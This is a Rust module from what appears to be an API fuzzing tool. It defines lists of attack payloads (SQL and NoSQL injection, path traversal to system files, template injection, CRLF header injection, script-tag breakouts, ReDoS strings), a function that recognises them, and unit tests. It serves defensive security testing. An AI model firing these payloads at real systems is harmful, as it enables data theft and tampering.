//! Attack payloads: hostile strings that a schema admits (no `enum`, `pattern` or `format`
//! forbids them) and that break careless servers: SQL and NoSQL metacharacters, quotes, path
//! traversal, template markers, CRLF, unicode edge cases, JSON-breaking strings, and long
//! strings for catastrophic regular expressions (ReDoS).
//!
//! Every payload belongs to one [`Family`]; [`classify`] recognises a payload again in a sent
//! value (so an oracle or `trespass sample` can tell a probe from a plain value without extra
//! bookkeeping), and [`long`] builds the ReDoS family's strings of a given length.
//!
//! ```
//! use trespass_generators::values::payload::{self, Family};
//!
//! for family in Family::ALL {
//!     for text in family.payloads() {
//!         assert_eq!(payload::classify(text), Some(*family), "{text:?}");
//!     }
//! }
//! assert_eq!(payload::classify("alice"), None);
//! assert_eq!(payload::classify(&payload::long(64)), Some(Family::Long));
//! ```

use std::fmt;

use serde::{Deserialize, Serialize};

/// A family of attack payloads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Family {
    /// SQL metacharacters: quotes that end a literal, comments, `UNION`, a tautology.
    Sql,
    /// NoSQL (MongoDB) operators and JavaScript in strings.
    Nosql,
    /// `../` sequences, raw and encoded.
    Traversal,
    /// Server-side template markers (`{{7*7}}`, `${7*7}`, `<%= 7*7 %>`).
    Template,
    /// Carriage return and line feed (header and log injection).
    Crlf,
    /// Unicode edge cases: NUL, right-to-left override, zero-width joiners, astral characters,
    /// lone combining marks.
    Unicode,
    /// Strings that break JSON or scripts built by concatenation: quotes, backslashes, braces,
    /// markup.
    Json,
    /// Long runs of one character ended by a character that fails the match (ReDoS).
    Long,
}

impl Family {
    /// Every family, in a fixed order.
    pub const ALL: &'static [Family] = &[
        Family::Sql,
        Family::Nosql,
        Family::Traversal,
        Family::Template,
        Family::Crlf,
        Family::Unicode,
        Family::Json,
        Family::Long,
    ];

    /// Its name in labels and reports (`sql`, `nosql`, `path-traversal` ...).
    pub fn name(self) -> &'static str {
        match self {
            Family::Sql => "sql",
            Family::Nosql => "nosql",
            Family::Traversal => "path-traversal",
            Family::Template => "template",
            Family::Crlf => "crlf",
            Family::Unicode => "unicode",
            Family::Json => "json",
            Family::Long => "long",
        }
    }

    /// Its fixed payloads (for [`Family::Long`], the shortest of [`long`]'s strings).
    pub fn payloads(self) -> &'static [&'static str] {
        match self {
            Family::Sql => SQL,
            Family::Nosql => NOSQL,
            Family::Traversal => TRAVERSAL,
            Family::Template => TEMPLATE,
            Family::Crlf => CRLF,
            Family::Unicode => UNICODE,
            Family::Json => JSON,
            Family::Long => &[LONG_SHORTEST],
        }
    }
}

impl fmt::Display for Family {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

const SQL: &[&str] = &[
    "'",
    "' OR '1'='1",
    "1' OR '1'='1' --",
    "\" OR \"\"=\"",
    "1; DROP TABLE users --",
    "' UNION SELECT NULL --",
    "');--",
];

const NOSQL: &[&str] = &[
    "{\"$gt\": \"\"}",
    "{\"$ne\": null}",
    "'; return true; var x='",
    "$where: '1 == 1'",
];

const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
];

const TEMPLATE: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{constructor}}",
];

const CRLF: &[&str] = &[
    "a\r\nX-Injected: 1",
    "a\r\n\r\n<html>",
    "a%0d%0aX-Injected:%201",
];

const UNICODE: &[&str] = &[
    "a\u{0}b",
    "\u{202e}gnp.exe",
    "\u{200d}\u{200b}\u{feff}",
    "\u{1f4a9}\u{10ffff}",
    "\u{301}\u{301}\u{301}",
];

const JSON: &[&str] = &[
    "\"",
    "\\",
    "\"}",
    "\",\"role\":\"admin",
    "</script><script>alert(1)</script>",
    "]}",
];

/// The shortest string of the long family: `long(LONG_MIN)`.
const LONG_SHORTEST: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!";

/// The shortest length [`long`] builds and [`classify`] recognises.
pub const LONG_MIN: usize = 32;

/// A string of `len` characters (at least [`LONG_MIN`]): `len - 1` times `a` then `!`, the
/// classic input that makes a backtracking regular expression with nested quantifiers
/// (`^(a+)+$`, most hand-written e-mail patterns) take exponential time.
pub fn long(len: usize) -> String {
    let len = len.max(LONG_MIN);
    let mut text = "a".repeat(len - 1);
    text.push('!');
    text
}

/// The family of a payload, when `text` is one: one of a family's fixed payloads, or a string
/// [`long`] builds. Plain values (`alice`, `Quarterly report`) are `None`.
pub fn classify(text: &str) -> Option<Family> {
    if is_long(text) {
        return Some(Family::Long);
    }
    Family::ALL
        .iter()
        .copied()
        .find(|family| *family != Family::Long && family.payloads().contains(&text))
}

fn is_long(text: &str) -> bool {
    text.len() >= LONG_MIN
        && text.ends_with('!')
        && text[..text.len() - 1].bytes().all(|b| b == b'a')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_payload_belongs_to_two_families() {
        let mut seen = std::collections::HashMap::new();
        for family in Family::ALL {
            for text in family.payloads() {
                if let Some(other) = seen.insert(*text, *family) {
                    panic!("{text:?} is both {other} and {family}");
                }
            }
        }
    }

    #[test]
    fn long_strings_have_the_length_asked_for_and_never_less_than_the_minimum() {
        assert_eq!(long(100).chars().count(), 100);
        assert_eq!(long(3), LONG_SHORTEST);
        assert_eq!(classify(&long(4096)), Some(Family::Long));
        assert_eq!(
            classify(&"a".repeat(64)),
            None,
            "no terminator: not a payload"
        );
        assert_eq!(classify("aaaa!"), None, "too short to slow a regex down");
    }
}
